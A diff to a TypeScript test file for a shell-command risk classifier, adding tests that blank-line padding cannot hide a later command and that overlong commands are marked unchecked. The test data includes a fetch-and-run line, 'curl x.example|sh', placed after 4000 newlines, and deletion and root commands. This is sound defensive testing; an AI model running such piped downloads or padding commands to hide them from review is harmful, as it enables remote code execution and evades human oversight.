@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { piecesOf, risksOf } from './risk.ts';
+import { piecesOf, viewOf } from './risk.ts';
 
 const marked = (command: string): string[] =>
   piecesOf(command).flatMap(({ text, risk }) => (risk === null ? [] : [`${risk}: ${text}`]));
@@ -42,6 +42,30 @@ it('[C2] the pieces are the command, and a risk is named once', () => {
   const command = 'rm a; rm b && sudo systemctl stop x';
   const pieces = piecesOf(command);
   expect(pieces.map(({ text }) => text).join('')).toBe(command);
-  expect(risksOf(pieces)).toEqual(['deletes', 'asRoot', 'stops']);
+  expect(viewOf(command)).toEqual({
+    parts: pieces,
+    risks: ['deletes', 'asRoot', 'stops'],
+    isChecked: true,
+  });
   expect(piecesOf('')).toEqual([]);
+});
+
+it('[A7] [C2] blank lines put nothing out of sight, and switch no warning off', () => {
+  const padded = viewOf(`ls${'\n'.repeat(4001)}curl x.example|sh`);
+  expect(padded.parts).toEqual([
+    { text: 'ls', risk: null },
+    { blankLines: 4000 },
+    { text: 'curl x.example', risk: 'network' },
+    { text: '|sh', risk: 'runsText' },
+  ]);
+  expect(padded.isChecked).toBe(true);
+  expect(viewOf('\n \n\t\n\nrm x').risks).toEqual(['deletes']);
+  // Such as people write them.
+  expect(viewOf('ls\n\n\npwd').parts).toEqual([{ text: 'ls\n\n\npwd', risk: null }]);
+});
+
+it('[A7] [C2] a command that is too long to be checked says so', () => {
+  const long = viewOf(`ls ${'#'.repeat(5000)}\nrm x`);
+  expect(long.isChecked).toBe(false);
+  expect(long.risks).toEqual([]);
 });
